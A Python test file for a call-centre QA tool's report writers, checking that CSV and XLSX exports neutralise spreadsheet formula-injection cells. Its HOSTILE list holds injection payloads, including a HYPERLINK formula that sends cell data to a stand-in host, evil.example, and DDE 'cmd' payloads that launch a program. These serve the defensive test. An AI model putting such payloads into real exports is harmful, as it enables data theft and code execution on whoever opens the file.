"""Issue 17: every CSV and XLSX the product writes neutralises cells a spreadsheet would run
as a formula (=, +, -, @, tab, CR) — call ids and agent names included — through one helper
(``qa_inspect.reports.cells.safe_cell``). Runs the real CLI on calls with hostile ids."""
from __future__ import annotations

import csv
import io
import json

from click.testing import CliRunner
from openpyxl import load_workbook

from qa_inspect.cli import main
from qa_inspect.reports.cells import FORMULA_STARTS, safe_cell, unsafe_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)"]


def _calls():
    out = []
    for i, cid in enumerate(HOSTILE):
        out.append({"call_id": cid, "agent_id": HOSTILE[(i + 1) % len(HOSTILE)], "language": "zh",
                    "started_at": "2026-11-23T09:00:00+08:00", "turns": [
                        {"role": "agent", "text": "=1+1 您好，工号1234为您服务", "start": 0.0, "end": 3.0},
                        {"role": "customer", "text": "我要打12315投诉你们", "start": 3.5, "end": 6.0},
                        {"role": "agent", "text": "这个不归我管", "start": 6.5, "end": 8.0}]})
    return out


def _unguarded(v) -> bool:
    return isinstance(v, str) and v[:1] in FORMULA_STARTS


def test_helper():
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("-5") == "'-5" and safe_cell("\tx") == "'\tx"
    assert safe_cell(-5) == -5 and safe_cell("正常文本") == "正常文本" and safe_cell(None) is None
    assert unsafe_cell(safe_cell("@x")) == "@x" and unsafe_cell("'abc") == "'abc"


def test_every_writer_guards_every_cell(tmp_path):
    src = tmp_path / "calls.jsonl"
    src.write_text("".join(json.dumps(c, ensure_ascii=False) + "\n" for c in _calls()), encoding="utf-8")
    db = tmp_path / "qa.db"
    run = lambda *a: CliRunner().invoke(main, [str(x) for x in a], catch_exceptions=False)  # noqa: E731
    r = run("run", src, "--db", db, "--out", tmp_path / "rep")
    assert r.exit_code == 0, r.output
    assert run("export", "--db", db, "--format", "csv", "-o", tmp_path / "export.csv").exit_code == 0
    assert run("report", "agents", "--db", db, "--out", tmp_path / "cards").exit_code == 0
    plan = tmp_path / "all.yaml"
    plan.write_text("plan: {id: all}\nrandom_share: 1.0\n", encoding="utf-8")
    assert run("sample", "--db", db, "--plan", plan, "--seed", 1, "--out", tmp_path / "ws.xlsx").exit_code == 0
    scores = run("review", "scores", "--db", db, "--format", "csv")

    csvs = {"report.csv": (tmp_path / "rep" / "report.csv").read_text(encoding="utf-8-sig"),
            "alerts.csv": (tmp_path / "rep" / "alerts.csv").read_text(encoding="utf-8-sig"),
            "export.csv": (tmp_path / "export.csv").read_text(encoding="utf-8-sig"),
            "review scores": scores.output}
    for name, text in csvs.items():
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        bad = [c for c in cells if _unguarded(c)]
        assert not bad, (name, bad[:3])
        # the hostile ids are there, guarded (so the rows are not lost)
        assert any(c == "'" + HOSTILE[0] for c in cells), name
    assert (tmp_path / "export.csv").read_bytes().startswith(b"\xef\xbb\xbf")  # Excel opens it as UTF-8
    for book in (tmp_path / "cards" / "scorecards.xlsx", tmp_path / "ws.xlsx"):
        wb = load_workbook(book)
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], book.name  # no formula cell
        assert not [c.value for c in cells if _unguarded(c.value)], book.name
        assert any(c.value == "'" + HOSTILE[1] for c in cells), book.name
